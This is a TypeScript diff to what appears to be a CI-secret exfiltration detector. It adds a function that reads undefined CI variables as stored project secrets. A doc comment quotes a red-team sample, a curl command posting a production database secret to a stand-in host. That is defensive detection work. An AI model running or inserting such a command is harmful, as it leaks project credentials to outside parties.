@@ -54,3 +54,22 @@ export function withCiSecrets(commands: string, text: string): string {
   }
   return out;
 }
+
+/** CI systems whose project settings (GitLab CI/CD variables, CircleCI project variables and contexts, Bitbucket repository variables, Travis settings) reach every job as plain environment variables. */
+const SETTINGS_AS_ENVIRONMENT = /^(\.gitlab-ci\.ya?ml|bitbucket-pipelines\.ya?ml|\.travis\.ya?ml|config\.ya?ml)$/;
+/** The CI system's and the shell's own variables, set by the runner rather than by a project's settings. */
+const RUNNER_VARIABLES = /^(CI|CI_\w+|GITLAB_\w+|CIRCLE\w*|BITBUCKET_\w+|TRAVIS\w*|HOME|PATH|PWD|OLDPWD|USER|SHELL|HOSTNAME|LANG|LC_\w+|TERM|TMPDIR|RANDOM|IFS|UID|PPID|SECONDS|LINENO|FF_\w+|DOCKER_\w+)$/;
+
+/**
+ * Variables a job reads that the file does not define and the runner does not set come from the project's
+ * settings, where its secrets are kept (red team round 6: `curl -d "$PROD_DB" x.example` in
+ * `.gitlab-ci.yml`): each is read as a stored secret (`$PROD_DB` as `$PROD_DB_SECRET`), so a payload that
+ * sends it to another host is judged as sending a secret. Variables the file sets (`variables:`, `env:`,
+ * `NAME=` in a script) keep their own name's reading.
+ */
+export function withSettingsVariables(commands: string, text: string, fileName: string): string {
+  if (commands === '' || !SETTINGS_AS_ENVIRONMENT.test(fileName)) return commands;
+  const defined = new Set([...text.matchAll(/^\s*-?\s*([A-Z_][A-Z0-9_]*)\s*:/gm), ...text.matchAll(/(?:^|[\s;{(])(?:export\s+)?([A-Z_][A-Z0-9_]*)=/gm), ...text.matchAll(/\b(?:read|for)\s+(?:-\w+\s+)*([A-Z_][A-Z0-9_]*)/g)].map((m) => m[1]!));
+  return commands.replace(/\$(\{?)([A-Z_][A-Z0-9_]*)(?![A-Za-z0-9_])/g, (whole, brace: string, name: string) =>
+    defined.has(name) || RUNNER_VARIABLES.test(name) || name.endsWith('_SECRET') ? whole : `$${brace}${storedSecretName(name)}`);
+}
